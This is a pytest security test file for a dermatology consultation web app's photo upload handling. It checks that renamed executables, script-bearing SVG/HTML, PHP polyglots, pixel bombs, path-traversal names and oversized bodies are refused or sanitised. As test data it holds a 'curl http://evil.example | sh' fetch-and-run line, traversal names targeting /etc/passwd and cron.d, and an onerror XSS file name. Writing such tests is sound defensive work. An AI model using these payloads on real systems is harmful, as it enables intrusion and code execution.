"""Hostile uploads: files that are not photos, bombs, broken files, polyglots, path tricks, huge bodies."""

from __future__ import annotations

import html
import io
from pathlib import Path

import pytest
from sqlalchemy import select

from app.extensions import db
from app.models import Message, Photo
from app.storage import KEY_PATTERN
from tests.factories import login_as, make_consultation, make_user, photo_bytes, stored_files, submit_request
from tests.security.attack import (
    HTML_PAGE,
    PHP_TAIL,
    SVG_WITH_SCRIPT,
    assert_refused,
    cut,
    field_error,
    nothing_stored,
    pillow_file,
    png_claiming,
    zip_file,
)

NOT_AN_IMAGE = "not a photo we can open"

HOSTILE_FILES = {
    "pdf renamed .jpg": ("rash.jpg", b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<<>>\n%%EOF", NOT_AN_IMAGE),
    "zip renamed .jpg": ("photos.jpg", zip_file(), NOT_AN_IMAGE),
    "executable renamed .jpg": ("IMG_0001.jpg", b"\x7fELF\x02\x01\x01" + b"\0" * 120, NOT_AN_IMAGE),
    "windows program renamed .jpg": ("IMG_0002.jpg", b"MZ\x90\x00" + b"\0" * 200, NOT_AN_IMAGE),
    "shell script renamed .jpg": ("arm.jpg", b"#!/bin/sh\ncurl http://evil.example | sh\n", NOT_AN_IMAGE),
    "php script renamed .jpg": ("back.jpg", PHP_TAIL, NOT_AN_IMAGE),
    "svg with a script": ("rash.svg", SVG_WITH_SCRIPT, NOT_AN_IMAGE),
    "svg with a script renamed .jpg": ("rash.jpg", SVG_WITH_SCRIPT, NOT_AN_IMAGE),
    "html page": ("page.html", HTML_PAGE, NOT_AN_IMAGE),
    "html page renamed .png": ("page.png", HTML_PAGE, NOT_AN_IMAGE),
    "jpeg magic then junk": ("fake.jpg", b"\xff\xd8\xff\xe0" + b"junk" * 100, NOT_AN_IMAGE),
    "gif (not accepted)": ("anim.gif", pillow_file("GIF"), NOT_AN_IMAGE),
    "tiff (not accepted)": ("scan.tif", pillow_file("TIFF"), NOT_AN_IMAGE),
    "png claiming 50,000 x 50,000 pixels": ("bomb.png", png_claiming(50_000, 50_000), "too large in pixels"),
    "truncated jpeg": ("cut.jpg", cut(photo_bytes(size=(800, 600))), "damaged or incomplete"),
    "truncated png": ("cut.png", cut(photo_bytes("PNG", size=(300, 300)), 0.6), "damaged or incomplete"),
    "first bytes of a jpeg only": ("stub.jpg", cut(photo_bytes(size=(800, 600)), 0.02), NOT_AN_IMAGE),
    "empty file": ("empty.jpg", b"", "empty"),
}


@pytest.mark.parametrize("kind", list(HOSTILE_FILES))
def test_hostile_file_is_refused_next_to_the_field_and_nothing_is_kept(app, client, kind):
    name, content, reason = HOSTILE_FILES[kind]
    with nothing_stored(app):
        text = assert_refused(submit_request(client, photos=[(name, content)]), 422)
    error = field_error(text, "photos")
    assert html.escape(name, quote=False) in error or f"“{name}”" in error
    assert reason in error


def test_polyglot_jpeg_with_a_php_tail_is_accepted_but_the_tail_is_not_stored(app, client):
    upload = photo_bytes(size=(320, 240)) + PHP_TAIL
    response = submit_request(client, photos=[("selfie.jpg", upload)])
    assert response.status_code == 303
    (photo,) = db.session.execute(select(Photo)).scalars()
    upload_dir = Path(app.config["UPLOAD_DIR"])
    for key in (photo.storage_key, photo.thumbnail_key):
        stored = (upload_dir / key).read_bytes()
        assert stored.startswith(b"\xff\xd8") and stored.rstrip(b"\0").endswith(b"\xff\xd9")
        assert b"<?php" not in stored and b"system(" not in stored
    assert stored_files(upload_dir) == sorted([photo.storage_key, photo.thumbnail_key])


@pytest.mark.parametrize(
    "name",
    ["../../etc/passwd.jpg", "..\\..\\windows\\win.ini.jpg", "/etc/cron.d/evil.jpg", "rash.jpg/../../../../tmp/x.jpg"],
)
def test_path_traversal_file_names_are_stored_only_under_random_keys(app, client, tmp_path, name):
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    response = submit_request(client, photos=[(name, photo_bytes())])
    assert response.status_code == 303
    upload_dir = Path(app.config["UPLOAD_DIR"])
    files = stored_files(upload_dir)
    assert len(files) == 2 and all(KEY_PATTERN.match(f) for f in files)
    new_elsewhere = {p for p in tmp_path.rglob("*") if p.is_file()} - before - {upload_dir / f for f in files}
    assert not new_elsewhere
    assert not any(part in f for f in files for part in ("passwd", "win.ini", "evil", ".."))


def test_a_refused_file_name_is_shown_short_and_escaped(app, client):
    name = '../../<img src=x onerror="alert(1)">.pdf'
    with nothing_stored(app):
        text = assert_refused(submit_request(client, photos=[(name, b"%PDF-1.4")]), 422)
    error = field_error(text, "photos")
    assert "<img src=x" not in text and "&lt;img src=x" in error
    assert "../" not in error  # only the last part of a path is repeated back


def test_hundreds_of_file_parts_are_refused_without_decoding_them(app, client):
    photos = [(f"p{n}.jpg", b"\xff\xd8\xff" + b"x" * 10) for n in range(200)]
    with nothing_stored(app):
        text = assert_refused(submit_request(client, photos=photos), 422, 413)
    assert "You can send up to 6 photos" in text or "too large" in text


def test_a_40_mb_photo_is_refused_as_too_large(app, client):
    big = b"\xff\xd8\xff\xe0" + b"\0" * (40 * 1024 * 1024)
    with nothing_stored(app):
        text = assert_refused(submit_request(client, photos=[("huge.jpg", big)]), 422)
    assert "larger than 20 MB" in field_error(text, "photos")


FORTY_MB = "x" * (40 * 1024 * 1024)


@pytest.mark.parametrize("path", ["/login", "/login/code", "/logout", "/staff/users/new"])
def test_a_40_mb_body_outside_the_patient_forms_gets_413_unread(app, client, path):
    with nothing_stored(app):
        assert_refused(client.post(path, data={"email": "a@clinic.example", "password": FORTY_MB}), 413)


def test_a_40_mb_answer_from_a_signed_in_dermatologist_gets_413(app, client):
    derm = make_user("dermatologist")
    consultation, _ = make_consultation(status="in_review", claimed_by=derm)
    login_as(client, derm)
    with nothing_stored(app):
        response = client.post(
            f"/queue/{consultation.reference}/answer", data={"assessment": FORTY_MB, "treatment": "Rest."}
        )
        assert_refused(response, 413)


def test_a_hostile_file_in_a_patient_reply_is_refused_and_nothing_is_sent(app, client):
    consultation, token = make_consultation(status="awaiting_patient")
    with nothing_stored(app):
        response = client.post(
            f"/c/{token}/reply",
            data={"body": "Here it is.", "photos": [(io.BytesIO(SVG_WITH_SCRIPT), "rash.svg")]},
            content_type="multipart/form-data",
        )
        text = assert_refused(response, 422)
    assert NOT_AN_IMAGE in text
    assert db.session.execute(select(Message).where(Message.request_id == consultation.id)).first() is None
